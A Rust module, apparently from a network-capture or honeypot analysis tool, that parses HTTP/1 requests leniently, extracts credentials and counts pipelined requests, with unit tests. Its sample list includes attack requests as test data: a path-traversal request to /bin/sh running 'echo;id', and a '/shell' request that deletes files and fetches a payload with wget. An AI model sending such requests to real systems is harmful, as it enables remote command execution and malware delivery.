//! HTTP/1 (RFC 9112): requests in clear or out of TLS, well formed or not.
//!
//! httparse says what is well formed. Where it refuses, or the bytes end early, the lines are read once more without
//! its strictness, so that a broken request still shows its target and headers, beside the reason. Bodies are
//! measured, never decoded: they are in the payload.

mod body;

use std::borrow::Cow;
use std::mem::MaybeUninit;

use body::Body;

use super::http::{self, Http};
use super::reader::{End, Reader};
use super::request_line::{self, Family, request_line};
use super::text_commands::next_line;
use super::{Protocol, Understanding, form};

/// The registry's entry.
pub(super) static PROTOCOL: Protocol = Protocol {
    name: "http",
    recognise,
    understand,
    #[cfg(any(test, feature = "samples"))]
    samples: &[
        b"GET / HTTP/1.0\r\n\r\n",
        b"GET /\r\n",
        b"\r\nGET http://192.0.2.9/proxy?x=1 HTTP/1.1\r\nHost: 192.0.2.9\r\nProxy-Authorization: Basic dTpw\r\n\r\n",
        b"CONNECT mail.example:25 HTTP/1.1\r\nHost: mail.example:25\r\n\r\nEHLO x\r\n",
        b"POST /cgi-bin/.%2e/%2e%2e/bin/sh HTTP/1.1\r\nHost: h\r\nContent-Length: 7\r\n\r\necho;idGET /2 HTTP/1.1\r\n\r\n",
        b"GET /shell?cd+/tmp;rm -rf *;wget http://192.0.2.7/x HTTP/1.1\r\nUser-Agent: Hello, world\r\nbroken\r\n\r\n",
        include_bytes!("../fixtures/protocol/curl.http"),
    ],
};

fn recognise(reader: &mut Reader<'_>) -> Result<bool, End> {
    let line = request_line(reader)?;
    Ok(line.is_some_and(|line| line.family == Family::Http))
}

/// Reads the requests one after the other; the first one's facts are kept, of the others the number and the targets.
#[expect(clippy::unnecessary_wraps, reason = "the shape of every protocol's function")]
pub(super) fn understand<'a>(bytes: &'a [u8], out: &mut Understanding<'a>) -> Result<(), End> {
    let mut facts = Http::default();
    let mut rest = bytes;
    while begins_request(rest) {
        let head = Head::parse(rest);
        for &(name, value) in &head.headers {
            http::header_credentials(name, value, &mut out.credentials);
        }
        facts.requests += 1;
        if facts.requests == 1 {
            head.describe(&mut facts, out.truncated);
        } else {
            facts.add_pipelined(head.method, head.target);
        }
        let Some(head_bytes) = head.length else {
            rest = &[];
            break;
        };
        let after = rest.get(head_bytes..).unwrap_or_default();
        if head.method == b"CONNECT" {
            rest = after;
            break;
        }
        let body = Body::measure(&head, after);
        if facts.requests == 1 {
            facts.body_bytes = body.length;
            facts.body_kept = body.kept;
        }
        if let Some(content_type) = head.values(b"content-type").next() {
            form::credentials(content_type, after.get(..body.consumed).unwrap_or_default(), &mut out.credentials);
        }
        if let Some(error) = body.error {
            facts.set_error(error);
        }
        rest = after.get(body.consumed..).unwrap_or_default();
    }
    facts.trailing_bytes = u64::try_from(rest.trim_ascii_start().len()).unwrap_or(u64::MAX);
    out.http = Some(facts);
    Ok(())
}

/// Reports whether a request line starts here, whole or cut off.
fn begins_request(bytes: &[u8]) -> bool {
    let mut reader = Reader::new(bytes);
    request_line::skip_empty_lines(&mut reader);
    !reader.rest().is_empty() && recognise(&mut reader) == Ok(true)
}

/// The head of one request.
struct Head<'a> {
    method: &'a [u8],
    target: &'a [u8],
    version: &'a [u8],
    headers: Vec<(&'a [u8], &'a [u8])>,
    /// Length of the head in bytes, with its empty line; `None` when the bytes end before it.
    length: Option<usize>,
    error: Option<&'static str>,
}

impl<'a> Head<'a> {
    fn parse(bytes: &'a [u8]) -> Self {
        let mut headers = [const { MaybeUninit::uninit() }; http::HEADERS];
        let mut request = httparse::Request::new(&mut []);
        let error = match request.parse_with_uninit_headers(bytes, &mut headers) {
            Ok(httparse::Status::Complete(length)) => {
                let headers = request.headers.iter().map(|header| (header.name.as_bytes(), header.value)).collect();
                return Self {
                    method: request.method.unwrap_or_default().as_bytes(),
                    target: request.path.unwrap_or_default().as_bytes(),
                    version: if request.version == Some(0) { b"1.0" } else { b"1.1" },
                    headers,
                    length: Some(length),
                    error: None,
                };
            }
            Ok(httparse::Status::Partial) => None,
            Err(error) => Some(reason(error)),
        };
        let mut head = Self::parse_leniently(bytes);
        head.error = if head.version == b"0.9" { None } else { error };
        head
    }

    /// Takes every line with a colon for a header, up to an empty line or the end.
    fn parse_leniently(bytes: &'a [u8]) -> Self {
        let mut reader = Reader::new(bytes);
        request_line::skip_empty_lines(&mut reader);
        let first = next_line(&mut reader).unwrap_or_default();
        let (method, rest) = split_once(first, b' ').unwrap_or((first, b""));
        let version_at = rest.windows(6).position(|window| window == b" HTTP/");
        let mut head =
            Self { method, target: rest.trim_ascii(), version: b"", headers: Vec::new(), length: None, error: None };
        let whole_line = bytes.contains(&b'\n');
        match version_at {
            Some(at) => {
                head.target = rest.get(..at).unwrap_or_default().trim_ascii();
                head.version = rest.get(at + 6..).unwrap_or_default().trim_ascii();
            }
            None if whole_line => {
                // HTTP/0.9: the line is the whole request.
                head.version = b"0.9";
                head.length = Some(bytes.len() - reader.rest().len());
                return head;
            }
            None => return head,
        }
        while let Some(line) = next_line(&mut reader) {
            if line.is_empty() {
                head.length = Some(bytes.len() - reader.rest().len());
                break;
            }
            if let Some((name, value)) = split_once(line, b':') {
                head.headers.push((name, value.trim_ascii()));
            }
        }
        head
    }

    fn describe(&self, facts: &mut Http<'a>, truncated: bool) {
        facts.set_method(self.method);
        facts.set_target(self.target);
        if !self.version.is_empty() {
            facts.set_version(self.version);
        }
        for &(name, value) in &self.headers {
            facts.add_header(name, value);
        }
        let error = self.error.or(match self.length {
            Some(_) => None,
            None if truncated => Some("the payload limit cuts the head of the request"),
            None => Some("the client ends inside the head of the request"),
        });
        facts.error = error.map(Cow::Borrowed);
    }

    fn values<'s>(&'s self, name: &'s [u8]) -> impl Iterator<Item = &'a [u8]> + 's {
        self.headers.iter().filter(move |(other, _)| other.eq_ignore_ascii_case(name)).map(|(_, value)| *value)
    }
}

fn split_once(line: &[u8], separator: u8) -> Option<(&[u8], &[u8])> {
    let at = line.iter().position(|byte| *byte == separator)?;
    Some((line.get(..at)?, line.get(at + 1..)?))
}

fn reason(error: httparse::Error) -> &'static str {
    match error {
        httparse::Error::HeaderName => "a header name is malformed",
        httparse::Error::HeaderValue => "a header value is malformed",
        httparse::Error::NewLine => "a line end is malformed",
        httparse::Error::TooManyHeaders => "more headers than are kept",
        httparse::Error::Version => "the version is neither HTTP/1.0 nor HTTP/1.1",
        httparse::Error::Token | httparse::Error::Status => "the request line is malformed",
    }
}

#[cfg(test)]
mod tests {
    use super::super::understand;
    use super::*;

    fn http(bytes: &[u8]) -> Http<'_> {
        understand(bytes, false).http.expect("http facts")
    }

    #[test]
    fn a_request_of_curl_shows_everything_that_it_sent() {
        let understanding = understand(include_bytes!("../fixtures/protocol/curl.http"), false);
        assert_eq!(understanding.protocol, Some("http"));
        let facts = understanding.http.expect("http facts");
        assert_eq!(facts.method.as_deref(), Some("POST"));
        assert_eq!(facts.target.as_deref(), Some("/login?next=%2F"));
        assert_eq!(facts.version.as_deref(), Some("1.1"));
        assert_eq!(facts.host.as_deref(), Some("127.0.0.1:8081"));
        assert!(facts.user_agent.as_deref().is_some_and(|agent| agent.starts_with("curl/")));
        let names: Vec<_> = facts.headers.iter().map(|(name, _)| &**name).collect();
        let expected =
            ["Host", "Authorization", "User-Agent", "Accept", "X-Twice", "X-Twice", "Content-Length", "Content-Type"];
        assert_eq!(names, expected);
        assert_eq!((facts.body_bytes, facts.body_kept, facts.requests, facts.error), (Some(9), 9, 1, None));
        let credential = understanding.credentials.list.first().expect("a login");
        assert_eq!((credential.user.as_deref(), credential.secret.as_deref()), (Some("admin"), Some("s3:cret")));
    }

    #[test]
    fn pipelined_requests_are_counted_and_named() {
        let facts =
            http(b"POST /1 HTTP/1.1\r\nContent-Length: 3\r\n\r\nabcGET /2 HTTP/1.1\r\n\r\nHEAD /3 HTTP/1.1\r\n\r\n");
        assert_eq!(facts.requests, 3);
        let expected = [("GET".into(), "/2".into()), ("HEAD".into(), "/3".into())];
        assert_eq!(facts.pipelined, expected);
        assert_eq!((facts.body_bytes, facts.body_kept, facts.trailing_bytes), (Some(3), 3, 0));
    }

    #[test]
    fn a_tunnel_is_counted_and_not_read_as_requests() {
        let facts = http(b"CONNECT a:443 HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\n\r\n");
        assert_eq!((facts.target.as_deref(), facts.requests, facts.trailing_bytes), (Some("a:443"), 1, 18));
    }

    #[test]
    fn a_malformed_request_shows_what_is_understood_and_why_not_more() {
        let facts = http(b"GET /a b HTTP/1.1\r\nHost: h\r\nno colon\r\nUser-Agent: u\r\n\r\n");
        assert_eq!(facts.target.as_deref(), Some("/a b"));
        assert_eq!((facts.host.as_deref(), facts.user_agent.as_deref()), (Some("h"), Some("u")));
        assert_eq!(facts.error.as_deref(), Some("the version is neither HTTP/1.0 nor HTTP/1.1"));
        let facts = http(b"GET / HTTP/1.1\r\nHo st: h\r\n\r\n");
        assert_eq!(facts.error.as_deref(), Some("a header name is malformed"));
        assert_eq!(http(b"GET / HTTP/9.9\r\n\r\n").version.as_deref(), Some("9.9"));
    }

    #[test]
    fn a_request_that_ends_early_says_who_ended_it() {
        let cut = b"GET /x HTTP/1.1\r\nHost: h\r\nUser-Ag";
        assert_eq!(http(cut).error.as_deref(), Some("the client ends inside the head of the request"));
        assert_eq!(http(cut).host.as_deref(), Some("h"));
        let facts = understand(cut, true).http.expect("http facts");
        assert_eq!(facts.error.as_deref(), Some("the payload limit cuts the head of the request"));
    }

    #[test]
    fn a_body_is_measured_by_length_or_by_chunks() {
        let facts = http(b"PUT / HTTP/1.1\r\nContent-Length: 100\r\n\r\nabc");
        assert_eq!((facts.body_bytes, facts.body_kept), (Some(100), 3));
        let chunks = b"PUT / HTTP/1.1\r\nTransfer-Encoding: gzip, chunked\r\n\r\n3\r\nabc\r\n2\r\nde\r\n0\r\n\r\nGET /n HTTP/1.1\r\n\r\n";
        let facts = http(chunks);
        assert_eq!((facts.body_bytes, facts.body_kept, facts.requests), (Some(5), 5, 2));
        let facts = http(&chunks[..60]);
        assert_eq!((facts.body_bytes, facts.body_kept), (None, 3));
        let facts = http(b"PUT / HTTP/1.1\r\nContent-Length: -1\r\n\r\n");
        assert_eq!(facts.error.as_deref(), Some("content-length is no number"));
        let facts = http(b"PUT / HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nabc");
        assert_eq!(
            (facts.error.as_deref(), facts.trailing_bytes),
            (Some("content-length is given twice and differs"), 2)
        );
    }

    #[test]
    fn too_many_headers_are_cut_and_marked() {
        let mut request = b"GET / HTTP/1.1\r\n".to_vec();
        for number in 0..200 {
            request.extend_from_slice(format!("X-{number}: {number}\r\n").as_bytes());
        }
        request.extend_from_slice(b"\r\n");
        let facts = http(&request);
        assert_eq!(facts.headers.len(), http::HEADERS);
        assert!(facts.truncated);
    }

    #[test]
    fn http_0_9_is_one_line() {
        let facts = http(b"GET /index.html\r\n");
        assert_eq!((facts.version.as_deref(), facts.error), (Some("0.9"), None));
        assert_eq!(facts.target.as_deref(), Some("/index.html"));
    }

    #[test]
    fn a_request_goes_on_behind_its_trailer_and_one_without_a_body_has_none() {
        let facts = http(b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\nX: y\r\nZ: 1\r\n\r\nGET /next HTTP/1.1\r\n\r\n");
        assert_eq!((facts.body_bytes, facts.requests, facts.trailing_bytes), (Some(3), 2, 0));
        let facts = http(b"GET / HTTP/1.1\r\n\r\nGET /next HTTP/1.1\r\n\r\n");
        assert_eq!((facts.body_bytes, facts.body_kept, facts.requests), (Some(0), 0, 2));
    }
}
